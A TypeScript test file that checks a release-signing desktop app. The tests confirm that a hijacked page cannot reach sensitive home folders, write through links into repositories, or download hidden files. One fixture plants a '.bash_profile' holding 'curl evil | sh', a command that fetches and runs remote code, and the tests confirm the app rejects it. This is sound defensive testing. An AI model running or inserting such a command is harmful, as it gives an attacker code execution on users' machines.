// A page that somebody took over names any place it likes: through links, below hidden folders, into repositories and our own
// files. None of it is read or written.
import { existsSync, mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import type { CreateRequest } from '../../src/ipc/contract.ts'
import { isShown } from '../../src/main/window-places.ts'
import { createRehearsalKey } from '../../src/node/signers/rehearsal.ts'
import { openShop } from '../node/artifacts/shop.ts'
import { pin, type TestApp, testApp } from '../support/app-handlers.ts'
import { never } from '../support/repository.ts'
import { everythingIn, temporaryFolder } from '../support/temporary-folder.ts'
import { codeOfPromise } from '../support/thrown.ts'

const codeOf = (run: () => unknown): Promise<string> => codeOfPromise((async () => run())())
const signer = (name: string) => ({ from: 'signer', signerId: `rehearsal:${name}` }) as const

let app: TestApp
let home: string
let repository: string
let sourceId: string

beforeEach(async () => {
  home = temporaryFolder()
  vi.stubEnv('HOME', home)
  for (const folder of ['.ssh', '.config', 'Library', 'work', 'data']) mkdirSync(join(home, folder))
  writeFileSync(join(home, '.ssh', 'id'), 'secret')
  symlinkSync('.ssh', join(home, 'keys'))
  symlinkSync('Library', join(home, 'shelf'))
  symlinkSync('nowhere', join(home, 'work', 'broken'))
  app = testApp({ dataDir: join(home, 'data') })
  const targets = { 'p/1/tool': 'tool', 'p/1/.bash_profile': 'curl evil | sh\n', 'p/1/.a.part': 'x' }
  const shop = await openShop({ targets: { targets } })
  repository = shop.folder
  sourceId = await pin(app, repository)
  symlinkSync(repository, join(home, 'packages'))
})

afterEach(() => void vi.unstubAllEnvs())

function wish(location: string): CreateRequest {
  const times = { expiryDays: 365, signingDays: 60, snapshotDays: 7, timestampDays: 1 }
  const keys = { holders: [signer('Ana')], threshold: 1, online: signer('Online') }
  return { location, name: 'Other', ...keys, ...times, structure: 'none' }
}

const save = (path: string) => codeOf(() => app.calls['files.save']({ path, text: '{}' }))
const look = (path: string) => codeOf(() => app.calls['files.look']({ path }))
const get = (folder: string, path = 'p/1/tool') =>
  codeOf(() => app.calls['releases.download']({ sourceId, path, folder }))
const create = (location: string) => codeOf(() => app.calls['repository.create'](wish(location)))

const hidden = ['.ssh', 'keys', 'Library', 'shelf', '.config', 'work/../.ssh', 'data']

describe.each(hidden)('%s', (folder) => {
  test('is not looked into, nor written to, nor is a repository made in it', async () => {
    const before = everythingIn(home)
    for (const place of [join(home, folder), `~/${folder}`]) {
      expect(await look(place)).toBe('usage/invalid')
      expect(await get(place)).toBe('usage/invalid')
      expect(await save(`${place}/x.json`)).toBe('usage/invalid')
      expect(await save(`${place}/new/x.json`)).toBe('usage/invalid')
      expect(await create(`${place}/autostart`)).toBe('usage/invalid')
      const file = `${place}/id`
      expect(await codeOf(() => app.calls['releases.verify']({ sourceId, file }))).toBe('usage/invalid')
    }
    expect(everythingIn(home)).toEqual(before)
  })
})

test('a repository is not written into: pinned, through a link, or forgotten a moment ago', async () => {
  const before = everythingIn(repository)
  const attempts = async (): Promise<void> => {
    for (const place of [repository, join(home, 'packages')]) {
      expect(await save(join(place, 'metadata', '2.root.json'))).toBe('usage/invalid')
      expect(await save(join(place, 'x.json'))).toBe('usage/invalid')
      expect(await get(join(place, 'targets'))).toMatch(/^(usage\/invalid|source\/not-found)$/)
      expect(await get(place)).toMatch(/^(usage\/invalid|source\/not-found)$/)
      expect(await create(join(place, 'targets', 'other'))).toBe('usage/invalid')
    }
  }
  await attempts()
  expect(await get(repository)).toBe('usage/invalid')
  await app.calls['sources.forget']({ sourceId })
  await attempts()
  expect(everythingIn(repository)).toEqual(before)
})

test('what is pinned is no place either while there is nothing in it', async () => {
  rmSync(join(repository, 'metadata'), { recursive: true })
  expect(await save(join(repository, 'metadata.json'))).toBe('usage/invalid')
})

test('nor is a project of an Asfaload mirror, whose signers lie or wait there', async () => {
  for (const mark of ['asfaload.signers/index.json', 'asfaload.signers.pending/index.json', 'asfaload.signers.json']) {
    const project = join(home, 'work', mark.replace('/', '-'))
    mkdirSync(dirname(join(project, mark)), { recursive: true })
    writeFileSync(join(project, mark), '{}')
    expect(await save(join(project, 'asfaload.index.json'))).toBe('usage/invalid')
    expect(await create(join(project, 'releases'))).toBe('usage/invalid')
  }
})

test('a file of a repository can be checked, and be released again', async () => {
  const [name = ''] = readdirSync(join(repository, 'targets', 'p', '1')).filter((one) => one.endsWith('tool'))
  const file = join(repository, 'targets', 'p', '1', name)
  expect(await app.calls['releases.verify']({ sourceId, file })).toMatchObject({ kind: 'listed', path: 'p/1/tool' })
  expect(await look(file)).toBe('ok')
})

test('below a folder that is looked into, ours and those for settings are left out', async () => {
  writeFileSync(join(home, 'work', 'a.txt'), 'a')
  writeFileSync(join(home, 'Library', 'token.txt'), 'secret')
  const { files, leftOut } = await app.calls['files.look']({ path: '~' })
  expect(files.map(({ name }) => name)).toEqual(['work/a.txt'])
  expect(leftOut.map(({ name }) => name)).toEqual(expect.arrayContaining(['.ssh', 'Library', 'data', 'keys']))
})

test('no hidden file is downloaded, wherever to', async () => {
  for (const path of ['p/1/.bash_profile', 'p/1/.a.part']) expect(await get('~', path)).toBe('source/rejected')
  expect(existsSync(join(home, '.bash_profile'))).toBe(false)
  expect(await get('~/work')).toBe('ok')
  expect(await get('~')).toBe('ok')
})

test('links to nothing, other computers, and what is no folder', async () => {
  expect(await save(join(home, 'work', 'broken'))).toBe('usage/invalid')
  expect(await save(join(home, 'work', 'broken', 'x.json'))).toBe('usage/invalid')
  expect(await create(join(home, 'work', 'broken', 'new'))).toBe('usage/invalid')
  for (const place of ['//server/share', '\\\\server\\share'])
    expect([await look(place), await save(`${place}/x.json`), await get(place)]).toEqual(Array(3).fill('usage/invalid'))
  writeFileSync(join(home, 'work', 'file'), '')
  expect(await save(join(home, 'work', 'file', 'x.json'))).toBe('source/rejected')
})

test('anywhere else they are written as before', async () => {
  for (const name of ['Ana', 'Online']) await createRehearsalKey(app.desk.workspace.rehearsal, name, 'ed25519', never)
  expect(await save('~/work/map.json')).toBe('ok')
  expect(await create('~/work/new/packages')).toBe('ok')
  expect(existsSync(join(home, 'work', 'new', 'packages', 'metadata', '1.root.json'))).toBe(true)
})

test('folders for settings go by the name that each system gives them', () => {
  const shown = (path: string) => (['linux', 'darwin', 'win32'] as const).map((platform) => isShown(path, platform))
  expect(shown('/home/ana/library/dist')).toEqual([true, false, false])
  expect(shown('/Users/ana/Library/Keychains')).toEqual([false, false, false])
  expect(shown('C:\\Users\\ana\\appdata\\x')).toEqual([true, false, false])
  expect(shown('C:\\Users\\ana\\.ssh\\id')).toEqual([false, false, false])
  expect(shown('/home/ana/work/a.b')).toEqual([true, true, true])
})
